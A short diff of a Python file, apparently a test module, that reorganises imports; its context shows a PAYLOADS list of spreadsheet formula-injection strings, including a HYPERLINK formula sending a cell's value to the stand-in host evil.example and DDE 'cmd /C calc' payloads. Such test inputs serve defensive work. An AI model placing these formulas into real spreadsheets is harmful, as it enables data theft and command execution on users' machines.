@@ -10,7 +10,8 @@ from openpyxl import load_workbook
 
 from app.clock import utcnow
 from app.extensions import db
-from app.workflow import lifecycle, reports
+from app import reports
+from app.workflow import lifecycle
 from app.workflow.calendar import current_calendar
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
